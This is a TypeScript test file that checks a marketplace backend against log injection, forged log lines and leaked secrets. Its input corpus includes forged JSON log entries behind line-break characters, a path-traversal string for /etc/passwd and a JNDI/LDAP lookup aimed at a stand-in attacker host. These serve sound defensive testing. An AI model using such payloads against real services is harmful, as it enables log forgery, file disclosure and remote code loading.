import { sql } from 'drizzle-orm'
import pino from 'pino'
import { login } from '@/lib/contract/account'
import { LOG_SAFETY } from '@/lib/domain/redaction'
import { startMarketplace, type TestMarketplace } from '../support/marketplace'
import { peek } from '../support/orders'

const lines: string[] = []
const log = pino({ level: 'trace', ...LOG_SAFETY }, { write: (line: string) => void lines.push(line) })
let market: TestMarketplace
beforeAll(async () => {
  market = await startMarketplace({ options: { log } })
})
afterAll(() => market.close())

const FORGED = '{"level":30,"event":"call","path":"/forged","status":200}'
/** Ends of lines, and what looks like one to a terminal, a browser or a reader of logs. */
const BREAKS = [
  ...['\n', '\r', '\r\n', '\n\n', '\v', '\f', '\x1c', '\x85', '\u2028', '\u2029', '\0', '\b\b\b\b', '\x1b[2K\x1b[1G'],
  ...['%0a', '%0d%0a', '%250a', '\\n', '\\u000a', '&#10;', '<br>', '\t', ' ', '"', '"}\n', '\\"', "'", '`'],
]
const CORPUS = [
  ...BREAKS.map((end) => `abcdefgh-1234${end}${FORGED}`),
  ...BREAKS.map((end) => `${end}abcdefgh-1234`),
  '',
  'short',
  'x'.repeat(129),
  'x'.repeat(60_000),
  '../../../../etc/passwd',
  '$\u007bjndi:ldap://evil.example/a}',
  '梁佳慧梁佳慧梁佳慧',
  '😀😀😀😀😀😀😀😀',
  'abcdefgh\u202e4321',
  '__proto__',
]
const SAFE = /^[A-Za-z0-9_-]{8,128}$/

test('for any name of a request, a browser or a caller: a line of the log is one line, and nobody forges one (O-05)', async () => {
  expect(CORPUS.length).toBeGreaterThan(60)
  const ids = new Set<string>()
  for (const [nth, text] of CORPUS.entries()) {
    market.clock.advance(20 * 60_000)
    const headers = { 'x-request-id': text, 'x-place': text, 'x-device': text, 'accept-language': text }
    const body = { username: `${text}`.slice(0, 60) || 'nobody', password: 'wrong' }
    const { envelope } = await market.hit(login, null, { body }, { headers })
    ids.add(envelope.requestId ?? `none ${nth}`)
    await market.app.inject({ url: `/no/such/path?x=${encodeURIComponent(text)}`, headers: { 'x-request-id': text } })
  }
  expect([...ids].filter((id) => !SAFE.test(id))).toEqual([])
  expect(lines.length).toBeGreaterThanOrEqual(2 * CORPUS.length)
  for (const line of lines) {
    expect(line.match(/[\p{Cc}\u2028\u2029]/gu)).toEqual(['\n'])
    const said = JSON.parse(line) as { path?: string; requestId?: string }
    expect([said.path === '/forged', SAFE.test(said.requestId ?? 'not-there')]).toEqual([false, true])
  }
  expect(lines.join('')).not.toContain('wrong')
  const written = await peek<Record<string, unknown>>(market, sql`select * from audit_entry where at > '2026-11-18'`)
  expect(written.length).toBeGreaterThanOrEqual(CORPUS.length / 2)
  const torn = written.filter((row) => Object.values(row).some((value) => /\p{Cc}/u.test(String(value))))
  expect(torn).toEqual([])
})

test('an id that may stand in a log comes back, so that both programs’ lines are found by one (O-05)', async () => {
  const id = 'abcdef-123456_XYZ'
  lines.length = 0
  await market.app.inject({ url: '/user/info', headers: { 'x-request-id': id } })
  expect(lines.map((line) => JSON.parse(line).requestId)).toEqual([id])
})

test('a failed statement is logged by its code and place, without its text and parameters (F-08)', async () => {
  const failed = market.database.db.execute(sql`select ${'18 Harbour Street'}::uuid`)
  log.error({ err: await failed.catch((error: unknown) => error) }, 'call failed')
  const line = lines.at(-1) ?? ''
  expect(line).toContain('22P02')
  expect(line).toContain('kernel-log.test')
  expect(line).not.toMatch(/Harbour|select/)
})
